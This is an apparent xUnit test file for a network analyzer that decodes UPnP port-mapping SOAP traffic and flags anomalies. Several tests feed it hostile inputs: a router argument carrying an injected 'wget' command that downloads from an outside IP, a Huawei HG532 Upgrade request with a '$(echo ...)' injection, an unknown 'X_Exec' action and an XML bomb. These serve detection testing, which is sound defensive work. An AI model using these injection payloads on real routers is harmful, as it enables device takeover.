using Analyzer.Decoding.Http;
using Analyzer.Decoding.Soap;
using Analyzer.Reassembly;
using Analyzer.Tests.Decoding.Http;
using static Analyzer.Tests.Decoding.Soap.SoapParsingData;

namespace Analyzer.Tests.Decoding.Soap;

public class SoapDecodingTests
{
    private static Dictionary<string, string> Fields(Analyzer.Events.AnalyzerEvent e) => HttpConversation.FieldsOf(e);

    [Fact]
    public void TheCapturedAddPortMappingGivesEveryArgumentAndItsResponse()
    {
        var sink = HttpConversation.Exchange(CapturedMessages.AddPortMappingRequest, CapturedMessages.AddPortMappingResponse);

        Assert.Equal(2, sink.Events.Count);
        var request = Assert.IsType<SoapRequest>(sink.Events[0]);
        Assert.Equal("soap", request.Protocol);
        Assert.Equal("AddPortMapping", request.Message);
        var f = Fields(request);
        Assert.Equal(WanIp1, f["service_type"]);
        Assert.Equal("AddPortMapping", f["action"]);
        Assert.Equal("/WANIPConnection", f["control_url"]);
        Assert.Equal("192.168.0.1", f["host"]);
        Assert.Equal($"\"{WanIp1}#AddPortMapping\"", f["soapaction"]);
        Assert.Equal("63", f["soapaction_len"]);
        Assert.Equal("1", f["soapaction_quoted"]);
        Assert.Equal("Microsoft-Windows/6.1 UPnP/1.0", f["user_agent"]);
        Assert.Equal("", f["arg_NewRemoteHost"]);
        Assert.Equal("59085", f["arg_NewExternalPort"]);
        Assert.Equal("UDP", f["arg_NewProtocol"]);
        Assert.Equal("59085", f["arg_NewInternalPort"]);
        Assert.Equal("192.168.0.13", f["arg_NewInternalClient"]);
        Assert.Equal("1", f["arg_NewEnabled"]);
        Assert.Equal("Teredo", f["arg_NewPortMappingDescription"]);
        Assert.Equal("0", f["arg_NewLeaseDuration"]);
        Assert.Equal("8", f["args_total"]);
        Assert.Equal("1120", f["body_len"]);
        Assert.False(f.ContainsKey("missing_args"));
        Assert.False(f.ContainsKey("doctype"));

        var response = Assert.IsType<SoapResponse>(sink.Events[1]);
        Assert.Equal("AddPortMappingResponse", response.Message);
        Assert.Same(request, response.Request);
        var r = Fields(response);
        Assert.Equal("200", r["status"]);
        Assert.Equal("AddPortMapping", r["action"]);
        Assert.Equal("UPnP/1.0 UPnP/1.0 UPnP/1.0 UPnP-Device-Host/1.0", r["server"]);
        Assert.Equal("306", r["body_len"]);
        Assert.Equal(request.Packet.FrameNumber.ToString(), r["request_frame"]);
        Assert.Empty(sink.Anomalies);
    }

    [Fact]
    public void TheCapturedLookupsReturnTheirArguments()
    {
        var specific = HttpConversation.Exchange(CapturedMessages.GetSpecificPortMappingEntryRequest, CapturedMessages.GetSpecificPortMappingEntryResponse);
        var req = Fields(specific.Events[0]);
        Assert.Equal("GetSpecificPortMappingEntry", specific.Events[0].Message);
        Assert.Equal("59085", req["arg_NewExternalPort"]);
        Assert.Equal("UDP", req["arg_NewProtocol"]);
        var resp = Fields(specific.Events[1]);
        Assert.Equal("GetSpecificPortMappingEntryResponse", specific.Events[1].Message);
        Assert.Equal("192.168.0.13", resp["arg_NewInternalClient"]);
        Assert.Equal("Teredo", resp["arg_NewPortMappingDescription"]);

        var external = HttpConversation.Exchange(CapturedMessages.GetExternalIPAddressRequest, CapturedMessages.GetExternalIPAddressResponse);
        Assert.Equal("GetExternalIPAddress", external.Events[0].Message);
        Assert.Equal("0", Fields(external.Events[0])["args_total"]);
        Assert.Equal("99.224.90.102", Fields(external.Events[1])["arg_NewExternalIPAddress"]);
    }

    [Fact]
    public void EverySplitOfTheCapturedRequestAndResponseInTwoSegmentsGivesTheSameEvents()
    {
        var request = HttpConversation.Bytes(CapturedMessages.AddPortMappingRequest);
        var response = HttpConversation.Bytes(CapturedMessages.AddPortMappingResponse);
        var expectedRequest = Fields(HttpConversation.Exchange(CapturedMessages.AddPortMappingRequest, CapturedMessages.AddPortMappingResponse).Events[0]);
        for (int cut = 1; cut < request.Length; cut++)
        {
            foreach (var order in new[] { new[] { 0, 1 }, new[] { 1, 0 } })
            {
                var c = new HttpConversation();
                c.SendPieces(fromClient: true, request, [cut], order);
                c.SendPieces(fromClient: false, response, [1 + cut % (response.Length - 1)], order);
                c.Close();
                Assert.Equal(2, c.Sink.Events.Count);
                Assert.Equal(expectedRequest, Fields(c.Sink.Events[0]));
                Assert.Equal("AddPortMappingResponse", c.Sink.Events[1].Message);
                Assert.Empty(c.Sink.Anomalies);
            }
        }
    }

    [Fact]
    public void ThreeSegmentsInEveryOrderGiveTheSameEvents()
    {
        var request = HttpConversation.Bytes(CapturedMessages.AddPortMappingRequest);
        int[][] orders = [[0, 1, 2], [0, 2, 1], [1, 0, 2], [1, 2, 0], [2, 0, 1], [2, 1, 0]];
        for (int a = 1; a < request.Length; a += 37)
        for (int b = a + 1; b < request.Length; b += 101)
        foreach (var order in orders)
        {
            var c = new HttpConversation();
            c.SendPieces(fromClient: true, request, [a, b], order);
            c.Close();
            var e = Assert.IsType<SoapRequest>(Assert.Single(c.Sink.Events));
            Assert.Equal("Teredo", e.Argument("NewPortMappingDescription"));
            Assert.Equal(8, e.ArgumentCount);
        }
    }

    [Theory]
    [MemberData(nameof(SoapParsingData.SoapActionForms), MemberType = typeof(SoapParsingData))]
    public void EveryFormOfTheSoapActionHeaderNamesTheAction(string header, string method)
    {
        var body = Envelope(Action("GetExternalIPAddress", WanIp1));
        var sink = HttpConversation.Exchange(Post(header, body, method: method),
            Ok(Envelope(Action("GetExternalIPAddressResponse", WanIp1, ("NewExternalIPAddress", "203.0.113.7")))));

        var request = Assert.IsType<SoapRequest>(sink.Events[0]);
        Assert.Equal("GetExternalIPAddress", request.Action);
        Assert.Equal(WanIp1, request.ServiceType);
        Assert.Equal(method, request.Method);
        Assert.Null(request.SoapAction!.Value.Issue);
        Assert.Equal("203.0.113.7", Assert.IsType<SoapResponse>(sink.Events[1]).Argument("NewExternalIPAddress"));
    }

    [Theory]
    [InlineData("s")]
    [InlineData("SOAP-ENV")]
    [InlineData("env")]
    public void AnyNamespacePrefixIsRead(string prefix)
    {
        var body = Envelope($"<m:DeletePortMapping xmlns:m=\"{WanIp2}\"><NewRemoteHost/><NewExternalPort>8080</NewExternalPort><NewProtocol>TCP</NewProtocol></m:DeletePortMapping>", prefix);
        var sink = HttpConversation.Exchange(Post($"SOAPAction: \"{WanIp2}#DeletePortMapping\"", body), Ok(Envelope(Action("DeletePortMappingResponse", WanIp2))));

        var f = Fields(sink.Events[0]);
        Assert.Equal("8080", f["arg_NewExternalPort"]);
        Assert.Equal("", f["arg_NewRemoteHost"]);
        Assert.False(f.ContainsKey("missing_args"));
    }

    [Fact]
    public void ADefaultNamespaceWithoutPrefixIsRead()
    {
        var body = "<Envelope xmlns=\"http://schemas.xmlsoap.org/soap/envelope/\"><Body>" +
                   $"<GetGenericPortMappingEntry xmlns=\"{WanIp1}\"><NewPortMappingIndex>3</NewPortMappingIndex></GetGenericPortMappingEntry></Body></Envelope>";
        var sink = HttpConversation.Exchange(Post($"SOAPAction: \"{WanIp1}#GetGenericPortMappingEntry\"", body), Ok(""));

        Assert.Equal("3", Fields(sink.Events[0])["arg_NewPortMappingIndex"]);
    }

    public static TheoryData<string, string, (string, string)[], string> MissingArguments => new()
    {
        { WanIp1, "AddPortMapping", AddPortMappingArgs.Where(a => a.Item1 != "NewPortMappingDescription").ToArray(), "NewPortMappingDescription" },
        { WanIp2, "AddAnyPortMapping", AddPortMappingArgs.Where(a => a.Item1 != "NewProtocol").ToArray(), "NewProtocol" },
        { "urn:schemas-upnp-org:service:WANIPv6FirewallControl:1", "GetOutboundPinholeTimeout", [("RemoteHost", "::1"), ("InternalClient", "fd00::2")], "RemotePort,InternalPort,Protocol" },
        { "urn:schemas-upnp-org:service:WANPPPConnection:1", "DeletePortMapping", [("NewExternalPort", "80")], "NewRemoteHost,NewProtocol" },
        { "urn:schemas-upnp-org:service:Layer3Forwarding:1", "SetDefaultConnectionService", [], "NewDefaultConnectionService" },
        { WanIp2, "DeletePortMappingRange", [("NewStartPort", "1"), ("NewEndPort", "65535"), ("NewProtocol", "TCP")], "NewManage" },
    };

    [Theory]
    [MemberData(nameof(MissingArguments))]
    public void AnIgdActionWithoutItsRequiredArgumentsListsTheMissingOnes(string service, string action, (string, string)[] args, string missing)
    {
        var sink = HttpConversation.Exchange(Post($"SOAPAction: \"{service}#{action}\"", Envelope(Action(action, service, args))), Ok(""));

        var request = Assert.IsType<SoapRequest>(sink.Events[0]);
        Assert.Equal(missing, Fields(request)["missing_args"]);
    }

    [Fact]
    public void AnUnknownActionOfAnIgdServiceIsFlagged()
    {
        var sink = HttpConversation.Exchange(Post($"SOAPAction: \"{WanIp1}#X_Exec\"", Envelope(Action("X_Exec", WanIp1))), Ok(""));
        Assert.Equal("1", Fields(sink.Events[0])["igd_action_unknown"]);
    }

    [Fact]
    public void AFaultResponseIsPairedWithItsRequestAndGivesTheUpnpError()
    {
        var sink = HttpConversation.Exchange(
            Post($"SOAPAction: \"{WanIp1}#GetGenericPortMappingEntry\"", Envelope(Action("GetGenericPortMappingEntry", WanIp1, ("NewPortMappingIndex", "12")))),
            Error(500, UpnpFault(713, "SpecifiedArrayIndexInvalid")));

        var response = Assert.IsType<SoapResponse>(sink.Events[1]);
        Assert.Equal("Fault", response.Message);
        var f = Fields(response);
        Assert.Equal("500", f["status"]);
        Assert.Equal("GetGenericPortMappingEntry", f["action"]);
        Assert.Equal("713", f["upnp_error_code"]);
        Assert.Equal("SpecifiedArrayIndexInvalid", f["upnp_error_description"]);
        Assert.Equal("s:Client", f["fault_code"]);
        Assert.Equal("UPnPError", f["fault_string"]);
    }

    [Fact]
    public void AddAnyPortMappingReturnsTheReservedPort()
    {
        var sink = HttpConversation.Exchange(
            Post($"SOAPAction: \"{WanIp2}#AddAnyPortMapping\"", Envelope(Action("AddAnyPortMapping", WanIp2, AddPortMappingArgs))),
            Ok(Envelope(Action("AddAnyPortMappingResponse", WanIp2, ("NewReservedPort", "47670")))));

        Assert.Equal("galleta silenciosa", Fields(sink.Events[0])["arg_NewPortMappingDescription"]);
        Assert.Equal("47670", Fields(sink.Events[1])["arg_NewReservedPort"]);
    }

    [Fact]
    public void PipelinedRequestsOnOneConnectionArePairedWithTheirResponsesInOrder()
    {
        var c = new HttpConversation();
        c.Client(Post($"SOAPAction: \"{WanIp1}#GetExternalIPAddress\"", Envelope(Action("GetExternalIPAddress", WanIp1))) +
                 Post($"SOAPAction: \"{WanIp1}#GetStatusInfo\"", Envelope(Action("GetStatusInfo", WanIp1))));
        c.Server(Ok(Envelope(Action("GetExternalIPAddressResponse", WanIp1, ("NewExternalIPAddress", "198.51.100.1")))) +
                 Ok(Envelope(Action("GetStatusInfoResponse", WanIp1, ("NewConnectionStatus", "Connected")))));
        c.Close();

        Assert.Equal(["GetExternalIPAddress", "GetStatusInfo", "GetExternalIPAddressResponse", "GetStatusInfoResponse"],
            c.Sink.Events.Select(e => e.Message));
        var responses = c.Events<SoapResponse>().ToList();
        Assert.Equal("GetExternalIPAddress", responses[0].Request!.Action);
        Assert.Equal("GetStatusInfo", responses[1].Request!.Action);
    }

    [Fact]
    public void AChunkedResponseIsDecoded()
    {
        var body = Envelope(Action("GetExternalIPAddressResponse", WanIp1, ("NewExternalIPAddress", "192.0.2.9")));
        var chunked = "HTTP/1.1 200 OK\r\nContent-Type: text/xml\r\nTransfer-Encoding: chunked\r\n\r\n" +
                      $"{40:x}\r\n{body[..40]}\r\n{body.Length - 40:x}\r\n{body[40..]}\r\n0\r\n\r\n";
        var sink = HttpConversation.Exchange(Post($"SOAPAction: \"{WanIp1}#GetExternalIPAddress\"", Envelope(Action("GetExternalIPAddress", WanIp1))), chunked);

        var f = Fields(sink.Events[1]);
        Assert.Equal("192.0.2.9", f["arg_NewExternalIPAddress"]);
        Assert.Equal((body.Length - 40).ToString(), f["chunk_size_max"]);
    }

    [Theory]
    [MemberData(nameof(SoapParsingData.NotUpnp), MemberType = typeof(SoapParsingData))]
    public void SoapThatIsNotUpnpControlGivesNoSoapEvent(string header, string body)
    {
        var sink = HttpConversation.Exchange(Post(header, body, path: "/HNAP1/"), Ok(Envelope("<GetDeviceSettingsResponse xmlns=\"http://purenetworks.com/HNAP1/\"/>")));
        Assert.Empty(sink.Events);
    }

    [Theory]
    [MemberData(nameof(SoapParsingData.DegenerateSoapActions), MemberType = typeof(SoapParsingData))]
    public void ADegenerateSoapActionWithAUpnpBodyIsReportedWithItsIssue(string header, string issue)
    {
        var sink = HttpConversation.Exchange(Post(header, Envelope(Action("GetExternalIPAddress", WanIp1))), Ok(""));

        var request = Assert.IsType<SoapRequest>(Assert.Single(sink.Events.OfType<SoapRequest>()));
        Assert.Equal("GetExternalIPAddress", request.Action);
        Assert.Equal(issue, Fields(request)["soapaction_issue"]);
    }

    [Fact]
    public void AnOverlongSoapActionIsCappedWithItsRealLength()
    {
        string action = "GetExternalIPAddress" + new string('A', 3000);
        var sink = HttpConversation.Exchange(Post($"SOAPAction: {WanIp1}#{action}", Envelope(Action("GetExternalIPAddress", WanIp1))), Ok(""));

        var f = Fields(sink.Events[0]);
        Assert.Equal(FieldText.MaxChars, f["soapaction"].Length);
        Assert.Equal((WanIp1.Length + 1 + action.Length).ToString(), f["soapaction_len"]);
        Assert.Equal(FieldText.MaxChars, f["action"].Length);
        Assert.Equal("GetExternalIPAddress", f["body_action"]);
    }

    [Fact]
    public void AnOverlongArgumentIsCappedWithItsRealLength()
    {
        string client = "`cd /var; wget http://198.51.100.4/x -O- >y`" + new string(' ', 2000);
        var args = AddPortMappingArgs.Select(a => a.Item1 == "NewInternalClient" ? (a.Item1, client) : a).ToArray();
        var sink = HttpConversation.Exchange(Post($"SOAPAction: \"{WanIp1}#AddPortMapping\"", Envelope(Action("AddPortMapping", WanIp1, args))), Ok(""));

        var f = Fields(sink.Events[0]);
        Assert.Equal(client[..FieldText.MaxChars], f["arg_NewInternalClient"]);
        Assert.Equal(client.Length.ToString(), f["arg_NewInternalClient_len"]);
    }

    [Fact]
    public void AnXmlBombIsEvidenceAndIsNeverExpanded()
    {
        string body = XmlBomb();
        long before = GC.GetAllocatedBytesForCurrentThread();
        var sink = HttpConversation.Exchange(Post($"SOAPAction: \"{WanIp1}#AddPortMapping\"", body), Ok(""));
        long allocated = GC.GetAllocatedBytesForCurrentThread() - before;

        var f = Fields(sink.Events[0]);
        Assert.Equal("1", f["doctype"]);
        Assert.Equal("1", f["entity"]);
        Assert.True(f.ContainsKey("xml_error"));
        Assert.Equal("AddPortMapping", f["action"]);
        Assert.True(allocated < 4 * 1024 * 1024, $"allocated {allocated} bytes");
    }

    [Fact]
    public void DeepNestingStopsAtTheDepthCap()
    {
        string deep = string.Concat(Enumerable.Repeat("<a>", 500)) + string.Concat(Enumerable.Repeat("</a>", 500));
        var sink = HttpConversation.Exchange(Post($"SOAPAction: \"{WanIp1}#AddPortMapping\"", Envelope(Action("AddPortMapping", WanIp1, ("NewPortMappingDescription", deep)))), Ok(""));

        Assert.Equal("1", Fields(sink.Events[0])["xml_too_deep"]);
    }

    [Fact]
    public void ATenMegabyteBodyStaysWithinTheCaps()
    {
        var c = new HttpConversation();
        var head = $"POST /ctl/IPConn HTTP/1.1\r\nSOAPAction: \"{WanIp1}#AddPortMapping\"\r\nContent-Length: {10 * 1024 * 1024}\r\n\r\n";
        c.Client(head);
        var junk = new byte[1460];
        junk.AsSpan().Fill((byte)'<');
        long maxHeld = 0;
        for (int sent = 0; sent < 10 * 1024 * 1024; sent += junk.Length)
        {
            int n = Math.Min(junk.Length, 10 * 1024 * 1024 - sent);
            c.Send(fromClient: true, junk[..n]);
            maxHeld = Math.Max(maxHeld, c.Analyzer.HeldBytes);
        }
        c.Close();

        var request = Assert.IsType<SoapRequest>(Assert.Single(c.Sink.Events));
        Assert.Equal(10 * 1024 * 1024, request.BodyLength);
        Assert.True(request.BodyTruncated);
        // What is held: the kept part of the body (pooled, rounded up) and the head, never the 10 MB.
        Assert.True(maxHeld <= 2 * HttpStreamLimits.DefaultMaxBodyBytes + HttpHead.MaxHeadBytes, $"held {maxHeld}");
        Assert.Contains(c.Sink.Anomalies, a => a.Id == HttpAnomalyIds.BodyTooLong);
    }

    [Fact]
    public void AResponseWhoseRequestWasNotSeenIsRecognizedByItsBody()
    {
        var c = new HttpConversation(handshake: false);
        c.Server(Ok(Envelope(Action("GetExternalIPAddressResponse", WanIp1, ("NewExternalIPAddress", "192.0.2.1")))));
        c.Close();

        var response = Assert.IsType<SoapResponse>(Assert.Single(c.Sink.Events));
        Assert.Equal("GetExternalIPAddress", response.Action);
        Assert.Null(response.Request);
        Assert.Equal("192.0.2.1", response.Argument("NewExternalIPAddress"));
    }

    [Fact]
    public void TheHg532UpgradeWithoutSoapActionIsControlWithTheHeaderReportedMissing()
    {
        var sink = HttpConversation.Exchange(Hg532Upgrade(), Error(500, UpnpFault(401, "Invalid Action")));

        var request = Assert.IsType<SoapRequest>(sink.Events[0]);
        var f = Fields(request);
        Assert.Null(request.SoapAction);
        Assert.Equal("missing", f["soapaction_issue"]);
        Assert.False(f.ContainsKey("soapaction"));
        Assert.Equal("urn:schemas-upnp-org:service:WANPPPConnection:1", f["service_type"]);
        Assert.Equal("Upgrade", f["action"]);
        Assert.Equal("/ctrlt/DeviceUpgrade_1", f["control_url"]);
        Assert.Equal(Hg532StatusUrl, f["arg_NewStatusURL"]);
        Assert.Equal("$(echo HUAWEIUPNP)", f["arg_NewDownloadURL"]);
        Assert.Equal("2", f["args_total"]);
        // The response is read as the answer to that control request.
        var response = Assert.IsType<SoapResponse>(Assert.Single(sink.Events.Skip(1)));
        Assert.Same(request, response.Request);
        Assert.Equal("401", Fields(response)["upnp_error_code"]);
    }

    [Fact]
    public void AUpnpEnvelopeAfterAUtf8ByteOrderMarkAndNoSoapActionIsControl()
    {
        var sink = HttpConversation.Exchange(PostWithoutSoapAction("text/xml", "\u00EF\u00BB\u00BF" + Envelope(Action("GetExternalIPAddress", WanIp1))), Ok(""));

        var request = Assert.Single(sink.Events.OfType<SoapRequest>());
        Assert.Equal("GetExternalIPAddress", request.Action);
        Assert.Equal("missing", Fields(request)["soapaction_issue"]);
    }

    [Theory]
    [MemberData(nameof(SoapParsingData.NotUpnpWithoutSoapAction), MemberType = typeof(SoapParsingData))]
    public void APostWithoutSoapActionThatIsNotUpnpControlGivesNoSoapEvent(string? contentType, string body)
    {
        var sink = HttpConversation.Exchange(PostWithoutSoapAction(contentType, body, "/HNAP1/"), Ok(Envelope(Action("GetExternalIPAddressResponse", WanIp1))));
        // To a UPnP server it is a plain POST (UpnpServerPostTests), never control, and its answer is not read as one.
        Assert.IsType<UpnpServerPost>(Assert.Single(sink.Events));
    }
}
